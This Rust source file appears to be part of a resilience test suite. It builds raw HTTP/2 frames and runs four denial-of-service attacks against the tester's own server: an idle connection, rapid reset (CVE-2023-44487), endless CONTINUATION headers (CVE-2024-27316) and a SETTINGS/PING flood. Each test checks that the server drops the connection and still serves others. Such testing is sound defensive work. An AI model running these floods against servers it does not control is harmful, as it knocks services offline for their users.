//! HTTP/2 without TLS, spoken by prior knowledge. A server that does not speak it ends the connection, which holds as well.

use std::time::Duration;

use anyhow::{Result, ensure};

use super::{PATIENCE, serves_others};
use crate::attacks::{Attack, Held, attacks};
use crate::client::Raw;
use crate::ground::Ground;

pub(super) fn all() -> Vec<Attack> {
    attacks!["transport", OwnServer;
        http2_idle,
        http2_rapid_reset,
        http2_endless_headers,
        http2_flood_of_settings_and_pings,
    ]
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const SETTINGS: u8 = 4;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

/// A frame (RFC 9113 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

async fn connected(ground: &Ground) -> Result<Raw> {
    let mut raw = ground.raw().await?;
    raw.send(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await;
    Ok(raw)
}

/// `GET / http` by the static table of HPACK.
const GET: &[u8] = &[0x82, 0x86, 0x84];

async fn http2_idle(ground: Ground) -> Held {
    let mut raw = connected(&ground).await?;
    let (_, ended) = raw.read_to_end(PATIENCE).await;
    ensure!(ended, "an HTTP/2 connection without a call stays for over {} s", PATIENCE.as_secs());
    Ok("ended by the server".to_owned())
}

/// CVE-2023-44487: calls that are taken back as soon as they are made.
async fn http2_rapid_reset(ground: Ground) -> Held {
    let mut raw = connected(&ground).await?;
    let mut sent = 0;
    for number in 0..20_000_u32 {
        let stream = number * 2 + 1;
        let both = [frame(HEADERS, 5, stream, GET), frame(RESET, 0, stream, &8_u32.to_be_bytes())].concat();
        let taken = tokio::time::timeout(Duration::from_secs(5), raw.send(&both)).await;
        if !matches!(taken, Ok(true)) {
            break;
        }
        sent += 1;
    }
    serves_others(&ground).await?;
    ensure!(sent < 20_000, "the server took 20,000 calls that were taken back, over one connection");
    Ok(format!("ended after {sent}; others sign in"))
}

/// CVE-2024-27316: a header block that never ends.
async fn http2_endless_headers(ground: Ground) -> Held {
    let mut raw = connected(&ground).await?;
    raw.send(&frame(HEADERS, 1, 1, GET)).await;
    // Literal header field without indexing: x: y..., over and over.
    let field = [&[0x00, 1, b'x', 100][..], &[b'y'; 100]].concat().repeat(100);
    let mut sent = 0;
    while sent < 5_000 {
        let taken =
            tokio::time::timeout(Duration::from_secs(5), raw.send(&frame(CONTINUATION, 0, 1, &field))).await;
        if !matches!(taken, Ok(true)) {
            break;
        }
        sent += 1;
    }
    serves_others(&ground).await?;
    ensure!(sent < 5_000, "the server took 50 MB of one header block");
    Ok(format!("ended after {sent} frames of 10 KB; others sign in"))
}

/// Frames that want an answer each, whose sender reads none.
async fn http2_flood_of_settings_and_pings(ground: Ground) -> Held {
    let mut raw = connected(&ground).await?;
    let both = [frame(SETTINGS, 0, 0, &[]), frame(PING, 0, 0, &[0; 8])].concat().repeat(100);
    let mut sent = 0;
    while sent < 1_000 {
        let taken = tokio::time::timeout(Duration::from_secs(2), raw.send(&both)).await;
        if !matches!(taken, Ok(true)) {
            break;
        }
        sent += 1;
    }
    serves_others(&ground).await?;
    Ok(format!("{} frames; others sign in", sent * 200))
}
